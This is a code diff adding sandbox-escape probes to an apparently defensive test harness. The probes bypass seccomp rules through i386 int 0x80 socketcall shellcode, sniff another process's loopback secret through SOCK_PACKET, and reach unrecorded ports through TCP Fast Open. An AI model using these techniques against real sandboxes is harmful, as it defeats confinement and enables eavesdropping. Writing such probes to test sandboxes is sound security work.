@@ -34,6 +34,7 @@ import fcntl
 import hashlib
 import http.server
 import json
+import mmap
 import os
 import select
 import signal
@@ -51,9 +52,11 @@ from escape_probes import Prep, in_child, run_probe, undo  # noqa: E402  (same d
 
 libc = ctypes.CDLL(None, use_errno=True)
 MSG_FASTOPEN = 0x20000000
+TCP_FASTOPEN_CONNECT = 30
 PR_SET_NAME, PR_SET_CHILD_SUBREAPER, PR_GET_CHILD_SUBREAPER = 15, 36, 37
 ADDR_NO_RANDOMIZE = 0x0040000
 ETH_P_ALL = 0x0003
+SOCK_PACKET = 10
 HEARTBEAT = b"sandprint-heartbeat-secret"
 LO_PROBE_ADDR = "127.213.7.1"
 PAGE = b"<html><body>hello from the local server</body></html>\n"
@@ -77,6 +80,51 @@ def _libc_call(fn, *args) -> int:
         e = ctypes.get_errno()
         raise OSError(e, os.strerror(e))
     return r
+
+
+# -- the i386 ABI from this 64-bit process: `int 0x80` ------------------------------------
+
+# int80(nr, a0, a1, a2, a3, a4) -> eax: the i386 registers ebx, ecx, edx, esi, edi from the
+# x86-64 argument registers (rsi, rdx, rcx, r8, r9), ebp 0
+_INT80 = bytes([0x53, 0x55,                     # push rbx; push rbp
+                0x89, 0xF8, 0x89, 0xF3,         # mov eax, edi; mov ebx, esi
+                0x49, 0x89, 0xCB, 0x89, 0xD1,   # mov r11, rcx; mov ecx, edx
+                0x44, 0x89, 0xDA,               # mov edx, r11d
+                0x44, 0x89, 0xC6, 0x44, 0x89, 0xCF,   # mov esi, r8d; mov edi, r9d
+                0x31, 0xED, 0xCD, 0x80,         # xor ebp, ebp; int 0x80
+                0x5D, 0x5B, 0xC3])              # pop rbp; pop rbx; ret
+I386_SOCKETCALL = 102
+SYS_SOCKET, SYS_SENDTO = 1, 11
+# socketcall's argument block here: the pointer & 0xfff7f7ff == 1, above mmap_min_addr
+SOCKETCALL_BLOCK = 0x80001
+MAP_FIXED_NOREPLACE = 0x100000
+
+
+def _i386(nr: int, *args: int) -> int:
+    """An i386 syscall through int 0x80 (the kernel's IA32 emulation); OSError on -errno."""
+    if os.uname().machine != "x86_64":
+        raise Prep("the i386 ABI is x86_64's companion")
+    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    code.write(_INT80)
+    fn = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 6)(
+        ctypes.addressof(ctypes.c_char.from_buffer(code)))
+    r = fn(nr, *(list(args) + [0] * (5 - len(args))))
+    if r < 0:
+        raise OSError(-r, f"i386 syscall {nr}: {os.strerror(-r)}")
+    return r
+
+
+def _low_block(at: int) -> int:
+    """A page mapped at ``at`` (page-aligned down) below 4 GiB, for i386 pointers."""
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
+                          ctypes.c_int, ctypes.c_long]
+    page = at & ~(mmap.PAGESIZE - 1)
+    got = libc.mmap(page, mmap.PAGESIZE, mmap.PROT_READ | mmap.PROT_WRITE,
+                    mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0)
+    if got != page:
+        raise Prep(f"could not map a page at {page:#x}")
+    return at
 
 
 # -- the daemon (outside every sandbox) ------------------------------------------------------
@@ -348,6 +396,23 @@ def _checksum(data: bytes) -> int:
     return ~(total + (total >> 16)) & 0xFFFF
 
 
+def p_inet_sock_packet(c: Ctx) -> str:
+    """socket(AF_INET, SOCK_PACKET): the recorded family, but the kernel turns it into an
+    AF_PACKET socket (the obsolete SOCK_PACKET interface); sniff as p_packet_sniff does."""
+    s = socket.socket(socket.AF_INET, SOCK_PACKET, socket.htons(ETH_P_ALL))
+    s.settimeout(0.5)
+    deadline = time.monotonic() + 3
+    while time.monotonic() < deadline:
+        try:
+            frame = s.recv(65536)
+        except socket.timeout:
+            continue
+        if HEARTBEAT in frame:
+            return ("socket(AF_INET, SOCK_PACKET) is a packet socket: captured another "
+                    "process's loopback datagram with its secret")
+    raise Prep("no heartbeat seen")
+
+
 def p_raw_inet(c: Ctx) -> str:
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
     header = struct.pack("!BBHHH", 8, 0, 0, 0x5350, 1)
@@ -366,6 +431,17 @@ def p_tcp_fastopen(c: Ctx) -> str:
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     s.sendto(b"fastopen", MSG_FASTOPEN, ("127.0.0.1", c.ports["echo"]))
     return f"TCP Fast Open to unrecorded port {c.ports['echo']}: {_recv(s, 'the echo server')!r}"
+
+
+def p_tcp_fastopen_connect(c: Ctx) -> str:
+    """setsockopt(TCP_FASTOPEN_CONNECT), then connect() and send: the SYN carries the data
+    and leaves on the first send, but connect() itself still passes the LSM hook."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_TCP, TCP_FASTOPEN_CONNECT, 1)
+    s.connect(("127.0.0.1", c.ports["echo"]))
+    s.sendall(b"fastopen-connect")
+    return (f"TCP_FASTOPEN_CONNECT then connect() to unrecorded port {c.ports['echo']}: "
+            f"{_recv(s, 'the echo server')!r}")
 
 
 def p_tcp_connect_other(c: Ctx) -> str:
@@ -401,6 +477,42 @@ def p_personality_aslr(c: Ctx) -> str:
     return "personality(ADDR_NO_RANDOMIZE), a persona never used: ASLR off for its children"
 
 
+def p_i386_socketcall_netlink(c: Ctx) -> str:
+    """socketcall(SYS_SOCKET) through int 0x80, its argument block placed where libseccomp's
+    rules derived from socket(AF_INET, SOCK_STREAM) look (they compare socketcall's
+    registers, not the arguments in memory): an rtnetlink socket, then plain write/read."""
+    block = _low_block(SOCKETCALL_BLOCK)
+    ctypes.memmove(block, struct.pack("III", socket.AF_NETLINK, socket.SOCK_RAW,
+                                      socket.NETLINK_ROUTE), 12)
+    fd = _i386(I386_SOCKETCALL, SYS_SOCKET, block, 0)
+    index = 1                       # lo: a network namespace's first device
+    os.write(fd, _addr_msg(20, 1, index))           # RTM_NEWADDR
+    err = -struct.unpack_from("i", os.read(fd, 4096), 16)[0]
+    if err:
+        raise OSError(err, f"RTM_NEWADDR: {os.strerror(err)}")
+    os.write(fd, _addr_msg(21, 2, index))           # RTM_DELADDR: undo
+    os.read(fd, 4096)
+    return (f"socketcall(SYS_SOCKET) made an AF_NETLINK socket and added {LO_PROBE_ADDR}/32 "
+            "to lo (and removed it)")
+
+
+def p_i386_socketcall_fastopen(c: Ctx) -> str:
+    """socketcall(SYS_SENDTO) with MSG_FASTOPEN in its argument block and 0 in esi, where the
+    derived rule looks for the flags, to a TCP port never connected to."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    block = _low_block(SOCKETCALL_BLOCK)
+    payload, addr = block + 64, block + 128
+    ctypes.memmove(payload, b"fastopen-i386", 13)
+    sa = struct.pack("=H", socket.AF_INET) + struct.pack(
+        "!H4s8x", c.ports["echo"], socket.inet_aton("127.0.0.1"))
+    ctypes.memmove(addr, sa, len(sa))
+    ctypes.memmove(block, struct.pack("IIIIII", s.fileno(), payload, 13, MSG_FASTOPEN,
+                                      addr, len(sa)), 24)
+    _i386(I386_SOCKETCALL, SYS_SENDTO, block, 0, 0)
+    return (f"socketcall(SYS_SENDTO, MSG_FASTOPEN) to unrecorded port {c.ports['echo']}: "
+            f"{_recv(s, 'the echo server')!r}")
+
+
 # name -> (function, what it tries)
 PROBES: dict[str, tuple] = {
     "udp-out": (p_udp_out, "socket(AF_INET, SOCK_DGRAM): a UDP datagram out and back"),
@@ -410,14 +522,23 @@ PROBES: dict[str, tuple] = {
                                      "address to lo"),
     "packet-sniff": (p_packet_sniff, "socket(AF_PACKET, SOCK_RAW): sniff another process's "
                                      "loopback traffic"),
+    "inet-sock-packet": (p_inet_sock_packet, "socket(AF_INET, SOCK_PACKET): the recorded "
+                         "family as a packet socket, sniffing loopback"),
     "raw-inet": (p_raw_inet, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP): a hand-made ICMP echo"),
     "tcp-fastopen": (p_tcp_fastopen, "sendto(MSG_FASTOPEN) to a TCP port never connected to "
                                      "(no connect(): landlock-lsm/linux#41)"),
+    "tcp-fastopen-connect": (p_tcp_fastopen_connect, "setsockopt(TCP_FASTOPEN_CONNECT), then "
+                             "connect() to a TCP port never connected to"),
     "tcp-connect-other": (p_tcp_connect_other, "connect() to a TCP port never connected to"),
     "tiocsti": (p_tiocsti, "ioctl(TIOCSTI) into another terminal's input"),
     "prctl-option": (p_prctl_option, "prctl(PR_SET_CHILD_SUBREAPER): an option never used"),
     "personality-aslr": (p_personality_aslr, "personality(ADDR_NO_RANDOMIZE): a persona "
                                              "never used"),
+    "i386-socketcall-netlink": (p_i386_socketcall_netlink, "i386 socketcall(SYS_SOCKET, "
+                                "AF_NETLINK) through int 0x80: add an address to lo"),
+    "i386-socketcall-fastopen": (p_i386_socketcall_fastopen, "i386 socketcall(SYS_SENDTO, "
+                                 "MSG_FASTOPEN) through int 0x80 to a TCP port never "
+                                 "connected to"),
 }
 
 
